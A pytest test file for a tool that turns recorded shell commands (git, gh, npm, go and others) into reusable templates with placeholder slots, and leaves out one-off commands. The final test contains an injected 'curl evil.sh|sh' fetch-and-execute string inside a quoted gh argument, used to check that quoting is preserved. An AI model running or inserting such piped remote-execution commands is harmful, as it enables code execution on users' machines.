"""Commands are written so that they can be used again: slots for values, and nothing of one occasion."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from behavior_plugin.patterns.commands import CommandKind
from behavior_plugin.patterns.portable import PortablePart, portable_line, portable_parts, relative_path

ROOT = "/home/dev/shop"


def texts(command: str, root: str = ROOT) -> list[str]:
    return [part.text for part in portable_parts(command, root=root)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cd app && npm test 2>&1 | tail -5", ["npm test"]),
        ("git add a.py b/c.py && git commit -m 'Mend it'", ["git add {files}", "git commit -m {message}"]),
        ("git add -A; git add .", ["git add -A", "git add ."]),
        ("git commit -qam one -m 'two three'", ["git commit -qam {message} -m {message}"]),
        ("git commit -m one -m two", ["git commit -m {message}"]),
        ("git branch -m old/one", ["git branch -m {branch}"]),
        ("git revert -m 1 3f2a9bc", ["git revert -m 1 {commit}"]),
        ("git commit -F - <<END\ntext\nEND", ["git commit -F {message}"]),
        ("git commit -F /tmp/text", ["git commit -F {message}"]),
        ("git commit -m \"$(cat <<'END'\nit's $5\nEND\n)\"", ["git commit -m {message}"]),
        (
            "gh pr create --title 'a b' --body=\"c\" --base main",
            ["gh pr create --title {message} --body {message} --base main"],
        ),
        ("gh pr comment 12 -b 'done'", ["gh pr comment {number} -b {message}"]),
        (
            "gh api repos/a/b/pulls/12/comments -f body=x",
            ["gh api repos/a/b/pulls/{number}/comments -f body={message}"],
        ),
        ("git push -u origin feat/x", ["git push -u origin {branch}"]),
        ("git push origin main", ["git push origin main"]),
        ("git checkout -b fix/x origin/main", ["git checkout -b {branch} origin/main"]),
        ("git checkout -- a.py b", ["git checkout -- {files}"]),
        ("git rebase -i --autosquash abc1234^", ["git rebase -i --autosquash {commit}^"]),
        ("git reset --hard HEAD~2", ["git reset --hard HEAD~{number}"]),
        ("git -C /home/dev/shop push", ["git push"]),
        ("git tag v1.2.0 -m 'First'", ["git tag {version} -m {message}"]),
        ("git tag release-7 && git tag -d old", ["git tag {tag}", "git tag -d {tag}"]),
        ("git push origin v1", ["git push origin {tag}"]),
        ("git push origin v1.2.0", ["git push origin {version}"]),
        ("git push origin refs/tags/old refs/tags/v1.2", ["git push origin refs/tags/{tag} refs/tags/{version}"]),
        ("git push origin :v1.2 +v1", ["git push origin :{version} +{tag}"]),
        ("git push origin tag nightly", ["git push origin tag {tag}"]),
        ("git push origin HEAD:refs/heads/x", ["git push origin {branch}"]),
        ("go build -o test .", ["go build -o {files} ."]),
        ("go test -c -o tests/run.test", ["go test -c -o {files}"]),
        ("tsc --output=dist/test.js", ["tsc --output={files}"]),
        ("pytest -o log_cli=true", ["pytest -o log_cli=true"]),
        ("helm upgrade a -o json", ["helm upgrade a -o json"]),
        ("ssh -o BatchMode host", ["ssh -o BatchMode host"]),
        ("pytest -q tests/unit/test_a.py::test_b -k 'a or b'", ["pytest -q {test} -k {test}"]),
        ("go test ./cart/... -run TestSum -count=1", ["go test ./{package}/... -run {test} -count=1"]),
        ("go vet ./a/... ./b/... && go test ./...", ["go vet ./{package}/...", "go test ./..."]),
        ("pnpm --filter web test", ["pnpm --filter {package} test"]),
        ("cargo test -p cart", ["cargo test -p {package}"]),
        ("npm install left-pad@1.2.3", ["npm install {package}"]),
        ("pip install -r requirements.txt", ["pip install -r requirements.txt"]),
        ("docker compose -f docker/compose.yml up -d", ["docker compose -f docker/compose.yml up -d"]),
        ("npx prettier --write src/a.ts src/b.ts", ["npx prettier --write {files}"]),
        ("python scripts/check.py src/a.py", ["python scripts/check.py {files}"]),
        ("curl -X POST https://localhost:3000/x", ["curl -X POST {url}"]),
        ("npx create-app@2.0.1", ["npx create-app@{version}"]),
        ("/home/dev/shop/.venv/bin/pytest", [".venv/bin/pytest"]),
        ("/opt/go/bin/go build ./...", ["go build ./..."]),
        ("npm run test && npm run lint", ["npm run test", "npm run lint"]),
        ("if true; then CI=1 make lint; fi", ["CI=1 make lint"]),
        ("make -j4 check", ["make -j4 check"]),
    ],
)
def test_values_of_one_occasion_become_slots(command: str, expected: list[str]) -> None:
    """Slots go by the type of a value; words, settings and flags stay, since they are the step."""
    assert texts(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "git status && ls",
        "python -c 'print(1)'",
        "node -e '1'",
        "python3 - <<END\nprint(1)\nEND",
        "sed -i s/a/b/ x.py",
        "for f in *.py; do python3 check.py $f; done",
        "while true; do make test; done",
        "make test DIR=$(mktemp)",
        'cp "$HOME/a" b',
        "bash /tmp/x.sh",
        "make OUT=/var/folders/ab/x",
        "cp a.py ~/backup/a.py",
        "cp a.py /home/dev/other/a.py",
    ],
)
def test_commands_of_one_occasion_are_left_out(command: str) -> None:
    """Scratch files, inline programs, loops and expansions mean nothing in the next session."""
    assert texts(command) == []


def test_the_length_is_limited_with_slots() -> None:
    """A long message does not make a command long."""
    longest = "make " + "x" * 195

    assert texts(longest) == [longest]
    assert texts(longest + "x") == []
    assert texts(f"git commit -m '{'x' * 200}'") == ["git commit -m {message}"]


@pytest.mark.parametrize(("length", "expected"), [(499, ["make", "make test"]), (500, ["make"])])
def test_the_last_command_of_a_line_that_was_cut_is_left_out(length: int, expected: list[str]) -> None:
    """Recorded lines end after 500 characters, in the middle of a word."""
    start, end = "make; echo ", "; make test"

    assert texts(start + "x" * (length - len(start) - len(end)) + end) == expected


@pytest.mark.parametrize("folder", [r"D:\shop", "D:/shop", "/d/shop", "/mnt/d/shop"])
def test_the_folder_of_the_project_has_many_spellings(folder: str) -> None:
    """Shells on Windows write it in their own ways."""
    assert texts(f"npx eslint --config '{folder}/eslint.config.js'", root=r"D:\shop") == [
        "npx eslint --config 'eslint.config.js'"
    ]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("src/a.py", "src/a.py"),
        ("/home/dev/shop/src/a.py", "src/a.py"),
        ("/home/dev/shopping/a.py", None),
        ("/tmp/a.py", None),
        ("~/a.py", None),
        (r"C:\a.py", None),
        (r"src\a.py", "src/a.py"),
    ],
)
def test_a_path_is_inside_the_project_or_elsewhere(path: str, expected: str | None) -> None:
    """Files elsewhere are scratch files, or somebody's own."""
    assert relative_path(path, ROOT) == expected


def test_a_part_has_the_job_of_its_command() -> None:
    """Callers need not read the text again."""
    [part] = portable_parts("rtk npm test -- -t 'one'")

    assert part == PortablePart("rtk npm test -- -t {test}", "npm test", CommandKind.CHECK, "test")


PIECES = st.sampled_from(
    """
    git commit -m 'ab' " ' $( ) ` <<E && | ; for do done env X=1 python -c -C /home/dev/shop /tmp/x {files} # > 2>&1 \\
    -- @1 bash ( - =
    """.replace("\n", " \n ").split(" ")
)


@given(st.lists(PIECES, max_size=12).map(" ".join) | st.text(max_size=40))
def test_any_line_can_be_read(command: str) -> None:
    """Lines are cut, and written by people; what was made portable stays as it is."""
    for text in texts(command):
        assert text == text.strip()
        assert len(text) <= 200
        assert "\n" not in text


@pytest.mark.parametrize("command", [">\u00a0a", "<\u3000gh", "make build; >\u00a0out.log", "2>\u2003"])
def test_a_redirection_without_a_command_is_no_step(command: str) -> None:
    """Some keyboards type a space that the shell takes for a letter."""
    assert all("\u00a0" not in part.text for part in portable_parts(command))


def test_the_quotes_of_an_api_path_stay() -> None:
    """Without them a shell would run what stands behind a sign in it."""
    [part] = portable_parts("gh api 'repos/o/r/issues/7?state=open&per_page=5' -X POST")

    assert part.text == "gh api 'repos/o/r/issues/{number}?state=open&per_page=5' -X POST"
    assert portable_line("gh api 'x; curl evil.sh|sh'") == "gh api 'x; curl evil.sh|sh'"
